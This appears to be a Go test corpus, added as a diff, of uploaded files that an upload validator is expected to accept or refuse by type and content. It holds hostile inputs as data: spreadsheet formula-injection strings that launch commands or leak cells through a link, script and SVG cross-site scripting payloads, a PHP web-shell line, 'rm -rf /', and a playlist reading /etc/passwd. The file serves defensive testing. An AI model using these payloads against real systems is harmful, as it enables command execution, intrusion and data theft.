@@ -1,0 +1,114 @@
+package corpus
+
+import (
+	"slices"
+	"strings"
+	"unicode/utf16"
+)
+
+const (
+	typeText = "text/plain"
+	typeCSV  = "text/csv"
+	typeJSON = "application/json"
+)
+
+// Texts returns plain text and tables, JSON and Markdown.
+func Texts() []File { return slices.Concat(hostileTexts(), goodTexts()) }
+
+// Formulas returns tables that are refused if the policy refuses formulas.
+func Formulas() []File {
+	var files []File
+	for _, c := range []struct{ about, table string }{
+		{"a formula in the first cell", "=1+1,b\n"},
+		{"a command", "a,b\nx,=cmd|' /C calc'!A0\n"},
+		{"a command behind a plus", "a,b\n+cmd|' /C calc'!A0,x\n"},
+		{"a command behind a minus and numbers", "a,-2+3+cmd|' /C calc'!A0\n"},
+		{"a function of old spreadsheets", "a;@SUM(A1:A9)\n"},
+		{"a link that leaks", "a,\"=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"x\"\")\"\n"},
+		{"a formula behind a tab", "a,\"\t=1+1\"\n"},
+		{"a formula behind a carriage return", "a,\"\r=1+1\"\n"},
+		{"a formula behind a semicolon", "a;b;=1+1\n"},
+		{"a formula behind an empty quotation", "a,\"\"=1+1\n"},
+		{"a formula behind a byte order mark", "\xef\xbb\xbf=1+1,a\n"},
+		{"a formula in UTF-16", utf16LE("a,=1+1\r\n")},
+		{"a formula at the end of a long table", strings.Repeat("a,b,-1.5\n", 20_000) + "a,@x\n"},
+	} {
+		files = append(files, File{About: "a table with " + c.about, Name: "a.csv", Type: typeCSV, Content: []byte(c.table), Code: content})
+	}
+	return files
+}
+
+func hostileTexts() []File {
+	long := strings.Repeat("All work and no play makes Jack a dull boy.\n", 200)
+	var files []File
+	for _, c := range []struct{ about, text, code string }{
+		{"HTML", "<!DOCTYPE html><html><body>x</body></html>", typeNotAllowed},
+		{"a script", "<script>alert(1)</script>", typeNotAllowed},
+		{"an image with a handler", "<img src=x onerror=alert(1)>", typeNotAllowed},
+		{"HTML behind words", "Dear all,\n<iframe src=//example.com></iframe>", typeNotAllowed},
+		{"HTML behind a byte order mark", "\xef\xbb\xbf<html>", typeNotAllowed},
+		{"HTML in UTF-16", utf16LE("<script>alert(1)</script>"), typeNotAllowed},
+		{"an SVG image", `<svg onload="alert(1)"/>`, typeNotAllowed},
+		{"a PHP script", "<?php system($_GET[0]); ?>", typeNotAllowed},
+		{"a shell script", "#!/bin/sh\nrm -rf /\n", typeNotAllowed},
+		{"PostScript", "%!PS-Adobe-3.0\n", typeNotAllowed},
+		{"a playlist that reads files", "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n", typeNotAllowed},
+		{"a program", "MZ\x90\x00\x03", typeNotAllowed},
+		{"a program of another system", "\x7fELF\x02\x01\x01\x00", typeNotAllowed},
+		{"no bytes", "", empty},
+		{"HTML behind 5 KB of spaces", strings.Repeat(" ", 5000) + "<html>", content},
+		{"a script behind 8 KB of text", long + "<script>alert(1)</script>", content},
+		{"a handler behind 8 KB of text", long + "<x onclick=alert(1)>", content},
+		{"an SVG image behind 8 KB of text", long + "<svg onload=alert(1)>", content},
+		{"a PHP script behind 8 KB of text", long + "<?php echo 1;", content},
+		{"HTML behind 8 KB of UTF-16", utf16LE(long + "<script>alert(1)</script>"), content},
+		{"HTML behind 8 KB of UTF-16 from the other end", utf16BE(long + "<img src=x>"), content},
+		{"a program behind 8 KB of text", long + "\x7fELF\x02\x01\x01\x00", content},
+		{"a NUL behind 8 KB of text", long + "\x00", content},
+		{"a terminal's escape sequence", "hello \x1b[2J", content},
+		{"an escape sequence behind 8 KB of text", long + "\x1b[2J", content},
+		{"a C1 control", "hello \u009b2J", content},
+		{"text in Windows-1252", "caf\xe9 au lait", content},
+		{"a character cut in two", long + "\xe2\x82", content},
+		{"an overlong character", "a\xc0\xafb", content},
+		{"a surrogate in UTF-8", "a\xed\xa0\x80b", content},
+		{"UTF-16 with half a pair", "\xff\xfea\x00\x3d\xd8", content},
+		{"UTF-16 with an odd byte", utf16LE(long) + "x", content},
+	} {
+		files = append(files, File{About: c.about + " as text", Name: "a.txt", Type: typeText, Content: []byte(c.text), Code: c.code})
+	}
+	return append(files,
+		File{About: "text as a picture", Name: "a.png", Type: typeText, Content: []byte("hello"), Code: typeMismatch},
+		File{About: "text as a batch file", Name: "a.bat", Type: typeText, Content: []byte("del *.*"), Code: typeMismatch},
+		File{About: "a script in a table", Name: "a.csv", Type: typeCSV, Content: []byte("a,b\n1,<script>alert(1)</script>\n"), Code: typeNotAllowed},
+		File{About: "a script far down in a table", Name: "a.csv", Type: typeCSV, Content: []byte(strings.Repeat("a,b\n", 2000) + "<script>,x\n"), Code: content},
+		File{About: "a NUL in JSON", Name: "a.json", Type: typeJSON, Content: []byte(`{"a": "` + long + "\x00\"}"), Code: content},
+	)
+}
+
+func utf16BE(s string) string {
+	b := []byte("\xfe\xff")
+	for _, u := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(u>>8), byte(u))
+	}
+	return string(b)
+}
+
+func goodTexts() []File {
+	return []File{
+		{About: "text in many scripts", Name: "a.txt", Type: typeText, Content: []byte("Žluťoučký кінь 馬 घोड़ा حصان 🐎\n")},
+		{About: "text with a byte order mark", Name: "a.txt", Type: typeText, Content: []byte("\xef\xbb\xbfhello\r\n")},
+		{About: "text in UTF-16", Name: "a.txt", Type: typeText, Content: []byte(utf16LE("héllo 🐎\r\n"))},
+		{About: "text in UTF-16 from the other end", Name: "a.txt", Type: typeText, Content: []byte(utf16BE("héllo\r\n"))},
+		{About: "text with angle brackets", Name: "a.txt", Type: typeText, Content: []byte("if a < b { List<String> x } // mail <jane@example.com>, <3\n")},
+		{About: "text that begins like a bitmap", Name: "a.txt", Type: typeText, Content: []byte("BM is short for bitmap\n")},
+		{About: "a log", Name: "a.log", Type: typeText, Content: []byte("2024-05-01T12:00:00Z GET /a 200 <nil>\n")},
+		{About: "text of 1 MB", Name: "a.txt", Type: typeText, Content: []byte(strings.Repeat("0123456 <3 é\n", 80_000))},
+		{About: "a table", Name: "a.csv", Type: typeCSV, Content: []byte("a,b\n1,\"x, \"\"y\"\"\"\n")},
+		{About: "a table with negative numbers and phone numbers", Name: "a.csv", Type: typeCSV, Content: []byte("n;tel\n-1.5;+49 (0)30/123-45\n-1,5e3;-\n")},
+		{About: "a table in UTF-16", Name: "a.csv", Type: typeCSV, Content: []byte(utf16LE("a,b\r\n-1,2\r\n"))},
+		{About: "a table of tabs", Name: "a.tsv", Type: "text/tab-separated-values", Content: []byte("a\tb\n1\t,=2\n")},
+		{About: "Markdown", Name: "a.md", Type: "text/markdown", Content: []byte("# Title\n\n- *item* <https://example.com/>\n")},
+		{About: "JSON", Name: "a.json", Type: typeJSON, Content: []byte(`{"a": [1, 2, "é"]}`)},
+	}
+}
